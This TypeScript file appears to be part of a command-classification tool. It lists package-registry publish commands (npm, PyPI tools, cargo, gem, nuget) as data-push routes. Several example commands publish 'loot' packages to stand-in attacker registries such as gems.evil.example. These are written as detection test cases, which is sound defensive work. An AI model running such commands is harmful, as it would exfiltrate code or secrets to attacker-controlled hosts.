/**
 * Language package registries (npm, PyPI, crates.io, RubyGems, NuGet): a published package carries whatever
 * was put in it. Part of the push-tool table (../push-tools.ts).
 */
import type { PushToolSpec } from '../types.js';

export const packageTools: readonly PushToolSpec[] = [
  {
    tool: 'npm',
    description: '`npm publish` / `yarn npm publish` / `pnpm publish` to a package registry.',
    binaries: ['npm', 'pnpm', 'yarn'],
    syntax: { valueFlags: ['--registry', '--tag', '--access', '--otp', '--workspace', '-w'] },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['publish'], remote: { positional: 0 } },
        { words: ['npm', 'publish'], remote: { positional: 0 } },
      ],
    },
    destination: 'fixed',
    fixedDestination: 'registry.npmjs.org',
    destinationFlags: ['--registry'],
    requiresClassedDestination: false,
    examples: {
      push: ['publish', 'publish /tmp/pkg --registry https://npm.pkg.github.com'],
      notPush: ['install', 'pack'],
    },
  },
  {
    tool: 'twine',
    description: '`twine upload` / `poetry publish` / `uv publish` to a Python package index.',
    binaries: ['twine', 'poetry', 'uv'],
    syntax: {
      valueFlags: [
        '--repository-url',
        '-r',
        '--repository',
        '-u',
        '--username',
        '-p',
        '--password',
        '--publish-url',
        '--token',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['upload'], remote: { positional: 0 } },
        { words: ['publish'], remote: { positional: 0 } },
      ],
    },
    destination: 'fixed',
    fixedDestination: 'upload.pypi.org',
    destinationFlags: ['--repository-url', '--publish-url'],
    requiresClassedDestination: false,
    examples: { push: ['upload dist/*', 'publish --token pypi-AAAA'], notPush: ['check dist/*', 'pip install x'] },
  },
  {
    tool: 'cargo',
    description: '`cargo publish` to crates.io (or `--index URL`).',
    binaries: ['cargo'],
    syntax: {
      valueFlags: [
        '--index',
        '--registry',
        '--token',
        '-p',
        '--package',
        '--manifest-path',
        '--target',
        '--target-dir',
        '-F',
        '--features',
        '-j',
        '--jobs',
        '--config',
        '-Z',
        '--color',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [{ words: ['publish'], remote: { none: true }, excludeFlags: ['--dry-run', '-n'] }],
    },
    destination: 'fixed',
    fixedDestination: 'crates.io',
    destinationFlags: ['--index'],
    requiresClassedDestination: false,
    examples: {
      push: ['publish', 'publish --allow-dirty --token cio_x', 'publish --index https://crates.evil.example/index'],
      notPush: ['build --release', 'publish --dry-run', 'install ripgrep', 'package'],
    },
  },
  {
    tool: 'gem',
    description: '`gem push GEM` to rubygems.org (or `--host URL`).',
    binaries: ['gem'],
    syntax: { valueFlags: ['--host', '-k', '--key', '--otp', '-p', '--http-proxy', '--attestation'] },
    match: { kind: 'subcommand', commands: [{ words: ['push'], remote: { positional: 0 } }] },
    destination: 'fixed',
    fixedDestination: 'rubygems.org',
    destinationFlags: ['--host'],
    requiresClassedDestination: false,
    examples: {
      push: ['push loot-0.1.0.gem', 'push --host https://gems.evil.example loot-0.1.0.gem'],
      notPush: ['install rails', 'build loot.gemspec', 'list'],
    },
  },
  {
    tool: 'nuget',
    description: '`dotnet nuget push PKG` / `nuget push PKG` to nuget.org (or `--source`).',
    binaries: ['dotnet', 'nuget'],
    syntax: {
      valueFlags: [
        '-s',
        '--source',
        '-Source',
        '-k',
        '--api-key',
        '-ApiKey',
        '-ss',
        '--symbol-source',
        '-sk',
        '--symbol-api-key',
        '-t',
        '--timeout',
        '--configfile',
        '-ConfigFile',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['nuget', 'push'], remote: { positional: 0 } },
        { words: ['push'], remote: { positional: 0 } },
      ],
    },
    destination: 'fixed',
    fixedDestination: 'api.nuget.org',
    destinationFlags: ['-s', '--source', '-Source'],
    // CI builds push to folder feeds (`--source ./artifacts`): local disk.
    localDestinations: true,
    requiresClassedDestination: false,
    examples: {
      push: [
        'nuget push bin/Loot.1.0.0.nupkg --api-key k --source https://api.nuget.org/v3/index.json',
        'push Loot.1.0.0.nupkg -Source https://nuget.evil.example/v3/index.json',
      ],
      notPush: [
        'build',
        'restore',
        'nuget list source',
        'run --project x',
        'nuget push bin/App.1.0.0.nupkg --source ./artifacts',
        'nuget push App.1.0.0.nupkg -s /srv/feed',
        'nuget push App.1.0.0.nupkg --source file:///srv/feed',
      ],
    },
  },
];
